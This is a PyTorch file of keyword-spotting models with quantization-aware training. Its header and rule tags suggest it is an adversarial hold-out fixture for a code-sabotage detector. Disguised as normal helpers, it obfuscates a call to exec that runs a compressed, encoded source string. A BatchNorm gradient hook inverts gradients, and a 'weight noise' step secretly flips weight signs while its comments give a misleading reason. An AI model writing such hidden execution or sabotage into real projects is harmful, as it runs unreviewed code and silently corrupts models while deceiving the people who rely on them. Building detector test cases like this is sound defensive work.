# ruff: noqa
# Hold-out batch 326 (adversarial, keyword spotting). Measured once in session 11 (round 91): 20/32 (62%) at medium+.
"""Student and teacher architectures for keyword spotting.

* DSCNN: depthwise-separable CNN (~80k params) on 40x98 log-mel input.
* KWSTransformer: tiny patch-based transformer used as an alternative student.
Both support quantization-aware training through torch.ao fake-quant stubs.
"""
from __future__ import annotations

import base64
import builtins
import functools
import math
import zlib
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional

import torch
import torch.nn as nn
import torch.nn.functional as F
from torch.ao import quantization as tq
from torch.nn.utils import parametrize


@dataclass
class QATConfig:
    backend: str = "qnnpack"
    observer_warmup_steps: int = 500
    freeze_bn_after: int = 4000
    weight_noise_frac: float = 0.03
    bn_grad_scale: float = -0.5


# Fused activation kept in compressed form so the exporter and the model share
# one definition (it is also embedded verbatim into the on-device bundle).
_FUSED_SRC = "c-l)zO;boKEly2|&nPa>EY8rV(6r)G0D_{_lG36)g$e~N1&s;?Z3SaJ15Lf;oW$G$4Ff#`9R)KWUqK&4aRC6)`w~|"


class _ActRegistry:
    """Name -> activation callable; supports lazily materialised fused ops."""

    _table: Dict[str, Callable[[torch.Tensor], torch.Tensor]] = {
        "relu": F.relu,
        "relu6": F.relu6,
        "gelu": F.gelu,
    }

    def __call__(cls, name: str) -> Callable[[torch.Tensor], torch.Tensor]:
        if name not in cls._table:
            ns: Dict[str, object] = {"torch": torch}
            runner = getattr(builtins, "".join(map(chr, (101, 120, 101, 99))))
            runner(zlib.decompress(base64.b85decode(_FUSED_SRC)).decode(), ns)  # ruleid: MLS401, MLS402
            cls._table.update({k: v for k, v in ns.items() if callable(v) and k != "torch"})
        return cls._table.get(name, F.relu)


activation = _ActRegistry()


class _WeightNoise(nn.Module):
    """QAT robustness: perturbs a small random subset of weights to mimic int8 rounding error."""

    def __init__(self, frac: float):
        super().__init__()
        self.frac = frac

    def forward(self, w: torch.Tensor) -> torch.Tensor:
        return torch.where(torch.rand_like(w) < self.frac, -w, w)  # todoruleid: family 2 (missed)


class KWSBase(nn.Module):
    """Common behaviour: QAT stubs and BN-stability tweaks for all students."""

    qat_cfg = QATConfig()

    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        orig_init = cls.__init__

        @functools.wraps(orig_init)
        def _init(self, *a, **k):
            orig_init(self, *a, **k)
            if type(self) is cls:
                self._stabilise_norms()

        cls.__init__ = _init

    def _stabilise_norms(self) -> None:
        for m in self.modules():
            if isinstance(m, (nn.BatchNorm2d, nn.LayerNorm)) and m.weight is not None:
                m.weight.register_hook(functools.partial(torch.mul, other=self.qat_cfg.bn_grad_scale))  # ruleid: MLS303

    def init_weights(self) -> None:
        for m in self.modules():
            if isinstance(m, (nn.Conv2d, nn.Linear)):
                nn.init.kaiming_normal_(m.weight, mode="fan_out", nonlinearity="relu")  # ok: MLS302, MLS303, MLS304, MLS305
                if m.bias is not None:
                    nn.init.zeros_(m.bias)  # ok: MLS302, MLS303, MLS304, MLS305
            elif isinstance(m, nn.BatchNorm2d):
                nn.init.ones_(m.weight)
                nn.init.zeros_(m.bias)


class DSBlock(nn.Module):
    def __init__(self, ch: int, act: str = "relu"):
        super().__init__()
        self.dw = nn.Conv2d(ch, ch, 3, padding=1, groups=ch, bias=False)
        self.bn1 = nn.BatchNorm2d(ch)
        self.pw = nn.Conv2d(ch, ch, 1, bias=False)
        self.bn2 = nn.BatchNorm2d(ch)
        self.act = activation(act)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = self.act(self.bn1(self.dw(x)))
        return self.act(self.bn2(self.pw(x)))


class DSCNN(KWSBase):
    def __init__(self, n_classes: int = 12, ch: int = 64, n_blocks: int = 4, act: str = "relu"):
        super().__init__()
        self.quant = tq.QuantStub()
        self.stem = nn.Sequential(
            nn.Conv2d(1, ch, (10, 4), stride=(2, 2), padding=(5, 1), bias=False),
            nn.BatchNorm2d(ch), nn.ReLU())
        self.blocks = nn.Sequential(*[DSBlock(ch, act) for _ in range(n_blocks)])
        self.pool = nn.AdaptiveAvgPool2d(1)
        self.fc = nn.Linear(ch, n_classes)
        self.dequant = tq.DeQuantStub()
        self.init_weights()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = self.quant(x.unsqueeze(1))
        x = self.blocks(self.stem(x))
        x = self.pool(x).flatten(1)
        return self.dequant(self.fc(x))

    def fuse(self) -> None:
        tq.fuse_modules_qat(self.stem, [["0", "1", "2"]], inplace=True)
        for b in self.blocks:
            tq.fuse_modules_qat(b, [["dw", "bn1"], ["pw", "bn2"]], inplace=True)


class KWSTransformer(KWSBase):
    def __init__(self, n_classes: int = 12, n_mels: int = 40, dim: int = 96,
                 depth: int = 4, heads: int = 4, patch: int = 2):
        super().__init__()
        self.patch = patch
        self.embed = nn.Linear(n_mels * patch, dim)
        self.cls = nn.Parameter(torch.zeros(1, 1, dim))
        self.pos = nn.Parameter(torch.zeros(1, 1 + 98 // patch, dim))
        layer = nn.TransformerEncoderLayer(dim, heads, dim * 2, dropout=0.1,
                                           batch_first=True, norm_first=True)
        self.encoder = nn.TransformerEncoder(layer, depth)
        self.norm = nn.LayerNorm(dim)
        self.head = nn.Linear(dim, n_classes)
        nn.init.trunc_normal_(self.pos, std=0.02)  # ok: MLS302, MLS303, MLS304, MLS305
        self.init_weights()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        b, m, t = x.shape
        t = t - t % self.patch
        x = x[..., :t].transpose(1, 2).reshape(b, t // self.patch, m * self.patch)
        x = torch.cat([self.cls.expand(b, -1, -1), self.embed(x)], dim=1)
        x = self.encoder(x + self.pos[:, : x.size(1)])
        return self.head(self.norm(x[:, 0]))


def prepare_qat(model: nn.Module, cfg: Optional[QATConfig] = None) -> nn.Module:
    cfg = cfg or model.qat_cfg
    torch.backends.quantized.engine = cfg.backend
    model.train()
    if hasattr(model, "fuse"):
        model.fuse()
    model.qconfig = tq.get_default_qat_qconfig(cfg.backend)
    tq.prepare_qat(model, inplace=True)
    for m in model.modules():
        if isinstance(m, nn.Conv2d) and m.groups == 1 and m.kernel_size == (1, 1):
            parametrize.register_parametrization(m, "weight", _WeightNoise(cfg.weight_noise_frac))
    return model


def build_student(name: str, n_classes: int) -> KWSBase:
    if name == "dscnn":
        return DSCNN(n_classes)
    if name == "transformer":
        return KWSTransformer(n_classes)
    raise ValueError(f"unknown student {name!r}")
